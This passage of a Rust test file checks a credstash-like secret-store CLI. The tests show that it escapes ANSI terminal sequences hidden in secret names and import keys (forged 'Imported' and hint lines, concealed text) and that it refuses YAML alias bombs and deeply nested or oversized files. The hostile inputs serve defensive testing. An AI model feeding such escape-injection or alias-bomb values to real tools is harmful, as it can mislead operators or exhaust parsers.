        serde_json::json!({"TableName": "credential-store",
            "Key": {"name": {"S": "ctx/password"}, "version": {"S": "0000000000000000001"}},
            "UpdateExpression": "SET context_keys = :k",
            "ExpressionAttributeValues": {":k": {"SS": [forged]}}}),
    );

    let list = ok(&["list"], b"");
    assert_inert("list", &list);
    let list = String::from_utf8(list).unwrap();
    assert_eq!(list.lines().count(), 3, "one line per item: {list}");
    assert!(
        list.contains("zz\\u{1b}[8mhidden\\u{1b}[0m\\nfake/admin-token -- version 1\\u{1b}[31m"),
        "{list}"
    );
    assert!(
        list.contains("-- format \\u{1b}[32mlockbox-sealed-1\\u{1b}[0m"),
        "{list}"
    );
    assert!(
        list.contains("-- comment \\u{1b}[2K\\rdb/password"),
        "{list}"
    );
    // The name column is as wide as the widest escaped name.
    let columns: Vec<usize> = list
        .lines()
        .map(|l| l[..l.find(" -- version ").unwrap()].chars().count())
        .collect();
    assert!(columns.windows(2).all(|w| w[0] == w[1]), "{list}");

    let history = ok(&["history", "db/password"], b"");
    assert_inert("history", &history);
    assert_eq!(String::from_utf8_lossy(&history).lines().count(), 1);

    let keys = ok(&["keys"], b"");
    assert_inert("keys", &keys);
    let keys = String::from_utf8(keys).unwrap();
    assert_eq!(
        keys.lines().collect::<Vec<_>>(),
        [
            "ctx/password",
            "db/password",
            "zz\\u{1b}[8mhidden\\u{1b}[0m\\nfake/admin-token"
        ]
    );

    // `delete` lists the sort keys it deleted.
    o.ddb(
        "PutItem",
        serde_json::json!({"TableName": "credential-store", "Item": {
            "name": {"S": "junk/key"}, "version": {"S": format!("2{ESC}[31m")},
            "hmac": {"S": "00"}}}),
    );
    let deleted = ok(&["delete", "junk/key"], b"");
    assert_inert("delete", &deleted);
    assert_eq!(
        String::from_utf8(deleted).unwrap(),
        "Deleting junk/key -- version 2\\u{1b}[31m\n"
    );

    // The context keys reach `get`'s error; the forged hint stays inside its line.
    let out = o.run(&["get", "ctx/password"], b"");
    assert_eq!(out.status.code(), Some(5), "{}", stderr(&out));
    assert_inert("get's error", &out.stderr);
    let err = stderr(&out);
    assert!(
        !err.lines()
            .any(|l| l.trim_start().starts_with("hint: the table")),
        "a forged hint line: {err}"
    );
    assert!(err
        .lines()
        .any(|l| l.trim_start().starts_with("hint: pass the same")));

    // A JSON import file's names come from anywhere: the per-name line is escaped.
    let evil = r#"{"evil\u001b[2K\rImported 1 secrets: 1 stored, 0 unchanged, 0 failed\n": "v"}"#;
    let out = o.run(&["import", "-f", "json", "-"], evil.as_bytes());
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert_inert("import's report", &out.stderr);
    assert!(!stderr(&out)
        .lines()
        .any(|l| l.starts_with("Imported") || l.contains("\rImported")));
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "Imported 1 secret: 0 stored, 0 unchanged, 1 failed\n"
    );
}

/// YAML import files are read by a parser that refuses at once what used to take
/// quadratic time or memory: nesting 100,000 deep, an alias bomb (billion laughs),
/// and files over the size limit, each with a message naming the limit.
#[test]
fn yaml_imports_refuse_deep_nesting_alias_bombs_and_oversized_files() {
    let l = Local::new();
    let deep = format!("a: {}{}\n", "[".repeat(100_000), "]".repeat(100_000));
    let mut lol = String::from(
        "a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n",
    );
    for (prev, next) in "abcdefgh".chars().zip("bcdefghi".chars()) {
        let refs = vec![format!("*{prev}"); 9].join(",");
        lol.push_str(&format!("{next}: &{next} [{refs}]\n"));
    }
    let mut big = "# padding\n".repeat((16 << 20) / 10 + 1);
    big.push_str("a: b\n");
    for (input, want) in [
        (deep.as_str(), "more than 16 levels deep"),
        (lol.as_str(), "anchors and aliases"),
        (big.as_str(), "limited to 16 MiB"),
    ] {
        let out = l.run_stdin(&["import", "-f", "yaml", "-"], input.as_bytes());
        assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
        assert!(stderr(&out).contains(want), "{want}: {}", stderr(&out));
    }
    assert_eq!(l.ok_text(&["keys"]), "");
}

/// `-f yaml` quotes every string a YAML 1.1 reader would take for another type, so
/// PyYAML (credstash's reader) reads back exactly the values stored.
#[test]
fn yaml_output_reads_back_the_same_in_pyyaml() {
    let Some(venv) = common::venv() else { return };
    let l = Local::new();
    let mut values: Vec<(String, Vec<u8>)> = awkward()
        .into_iter()
        .map(|(n, v)| (n.to_owned(), v))
        .collect();
    let retyped = [
        "yes",
        "on",
        "Off",
        "y",
        "~",
        "null",
        "1_000",
        "0o17",
        "2026-01-01",
        "=",
        "1e3",
    ];
    for (i, v) in retyped.iter().enumerate() {
        values.push((format!("retyped.{i}"), v.as_bytes().to_vec()));
    }
    for (name, value) in &values {
        l.put(name, value, &[]);
    }
    let yaml = l.path().join("out.yaml");
    std::fs::write(&yaml, l.ok(&["getall", "-f", "yaml"])).unwrap();
    let out = Command::new(venv.join("bin").join("python"))
        .args([
            "-c",
            "import json, sys, yaml; print(json.dumps(yaml.safe_load(open(sys.argv[1]))))",
        ])
        .arg(&yaml)
        .env_clear()
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let got: BTreeMap<String, serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    for (name, value) in &values {
        assert_eq!(
            got[name],
            serde_json::Value::String(String::from_utf8(value.clone()).unwrap()),
            "{name}"
        );
    }
}

/// A YAML manifest over 1 MiB, or nested deeper than a manifest can be, is refused
/// before anything is fetched, with the reason named.
#[test]
fn yaml_manifests_are_capped_in_size_and_depth() {
    let l = Local::new();
    l.put("app/token", b"t", &[]);
    let mut big = "# padding\n".repeat((1 << 20) / 10 + 1);
    big.push_str("env:\n  TOKEN: app/token\n");
    let deep = format!(
        "env:\n  TOKEN: app/token\ncontext: {}{}\n",
        "{a: ".repeat(100_000),
        "}".repeat(100_000)
    );
    for (text, want) in [
        (big.as_str(), "limited to 1 MiB"),
        (deep.as_str(), "is not valid"),
    ] {
        let manifest = l.path().join("m.yaml");
        std::fs::write(&manifest, text).unwrap();
        let out = l.run(&[
            "exec",
            "--manifest",
            manifest.to_str().unwrap(),
            "--",
            "true",
        ]);
        assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
        assert!(stderr(&out).contains(want), "{want}: {}", stderr(&out));
    }
}

#[test]
fn put_all_takes_credstash_forms_and_names_every_failure() {
    let l = Local::new();
    // The JSON itself (with a warning), in its own order, each as `put` would.
    let out = l.run(&["putall", r#"{"b": "2", "a": "1"}"#]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "b has been stored as version 1\na has been stored as version 1\n"
    );
    assert!(
        stderr(&out).contains("visible in shell history"),
        "{}",
        stderr(&out)
    );
    // @FILE (~/ is the home directory), with context pairs and a comment.
    std::fs::write(l.path().join("s.json"), r#"{"a": "1b", "c": "é \"q\""}"#).unwrap();
    let out = l.run(&["put-all", "@~/s.json", "env=test", "-c", "from a file"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(!stderr(&out).contains("warning"), "{}", stderr(&out));
    assert_eq!(l.ok_text(&["get", "a", "env=test"]), "1b\n");
    assert_eq!(l.ok_text(&["get", "c", "env=test"]), "é \"q\"\n");
    assert!(l
        .ok_text(&["history", "c"])
        .contains("-- comment from a file"));
    // stdin; -a is accepted; -o json says what was stored.
    let out = l.run_stdin(&["-o", "json", "putall", "-a", "-"], br#"{"b": "3"}"#);
    let doc: serde_json::Value = serde_json::from_slice(&common::ok(out, &["putall"])).unwrap();
    assert_eq!(
        doc,
        serde_json::json!({"failed": [], "stored": [{"name": "b", "version": 2}]})
    );
    // -v N: that version of each; one that has it already is refused, named, never
    // overwritten, and the others are still stored; exit 1.
    let out = l.run_stdin(
        &["putall", "-v", "2", "-"],
        br#"{"a": "x", "d": "4", "b": "y"}"#,
    );
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.contains("lockbox: b: not stored: b version 2 already exists"),
        "{err}"
    );
    assert!(err.contains("2 of 3 secrets were not stored"), "{err}");
    assert!(!err.contains("\"y\"") && !err.contains("x,"), "{err}");
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "d has been stored as version 2\n"
    );
    assert_eq!(l.ok_text(&["get", "b"]), "3\n");
    // Bad input stores nothing and names every problem, never a value.
    let before = l.ok_text(&["list"]);
    for (input, says) in [
        (
            r#"{"ok": "v", "n": 5}"#,
            "the value of \"n\" is not a string",
        ),
        (
            r#"{"ok": "v", "bad*": "s3cret-value"}"#,
            "invalid secret name \"bad*\"",
        ),
        (
            r#"{"ok": "v", "ok": "s3cret-value"}"#,
            "\"ok\" is given more than once",
        ),
        (r#"["s3cret-value"]"#, "not an object"),
        ("s3cret-value", "invalid JSON"),
    ] {
        let out = l.run_stdin(&["putall", "-"], input.as_bytes());
        assert_eq!(out.status.code(), Some(2), "{input}: {}", stderr(&out));
        assert!(stderr(&out).contains(says), "{input}: {}", stderr(&out));
        assert!(
            stderr(&out).contains("nothing was stored"),
            "{}",
            stderr(&out)
        );
        assert!(!stderr(&out).contains("s3cret"), "{}", stderr(&out));
    }
    assert_eq!(l.ok_text(&["list"]), before);
    // A sealed table refuses credstash's format, as put -d does.
    let out = l.run(&["putall", r#"{"e": "5"}"#, "-d", "SHA512"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("none of the 1 secrets was stored"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn log_level_and_log_file_take_credstash_names() {
    let l = Local::new();
    l.put("n", b"s3cret-in-the-log-test", &[]);
    let log = l.path().join("lockbox.log");
    let log_arg = log.display().to_string();
    let out = l.run(&["--log-level", "DEBUG", "--log-file", &log_arg, "get", "n"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(out.stdout, b"s3cret-in-the-log-test\n");
    // Diagnostics went to the file (0600), not to stderr, and hold no value.
    assert!(!stderr(&out).contains("DEBUG"), "{}", stderr(&out));
    let first = std::fs::read_to_string(&log).unwrap();
    assert!(first.contains("DEBUG"), "{first}");
    assert!(!first.contains("s3cret"), "a value in the log");
    assert_eq!(mode(&log) & 0o777, 0o600);
    // Appended to; a failure is on stderr and in the file.
    let out = l.run(&["--log-file", &log_arg, "get", "missing"]);
    assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
    assert!(stderr(&out).contains("lockbox: error: cannot read missing"));
    let second = std::fs::read_to_string(&log).unwrap();
    assert!(second.starts_with(&first), "the log was not appended to");
    assert!(
        second[first.len()..].contains("ERROR cannot read missing"),
        "{second}"
    );
    // credstash's level names, in any case; the flag wins over LOCKBOX_LOG.
    for level in ["WARNING", "info", "ERROR", "CRITICAL", "NOTSET", "warn"] {
        let out = common::run_with_stdin(
            l.cmd(&["--log-level", level, "keys"])
                .env("LOCKBOX_LOG", "trace"),
            b"",
        );
        assert_eq!(out.status.code(), Some(0), "{level}: {}", stderr(&out));
        let traced = stderr(&out).contains("TRACE");
        assert_eq!(traced, level == "NOTSET", "{level}: {}", stderr(&out));
    }
    let out = l.run(&["--log-level", "LOUD", "keys"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("DEBUG, INFO, WARNING, ERROR or CRITICAL"));
    let out = l.run(&["--log-file", "/nonexistent-dir/x.log", "keys"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("cannot open the log file"),
        "{}",
        stderr(&out)
    );
}
